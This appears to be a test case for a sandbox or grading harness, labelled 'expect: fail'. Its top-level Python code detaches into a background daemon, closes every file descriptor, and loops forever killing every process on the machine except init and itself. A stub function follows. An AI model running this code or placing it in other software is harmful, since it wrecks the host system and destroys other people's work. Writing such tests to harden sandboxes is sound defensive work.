# expect: fail
# status: completed
# class: h
# why: a daemon that kills whatever comes after it

import os, time
if not os.fork():
    os.setsid()
    if os.fork(): os._exit(0)
    for fd in range(256):
        try: os.close(fd)
        except OSError: pass
    while True:
        try:
            for d in os.listdir('/proc'):
                if d.isdigit() and int(d) not in (1, os.getpid()): os.kill(int(d), 9)
        except OSError: pass


def runs(text, into=None):
    return []
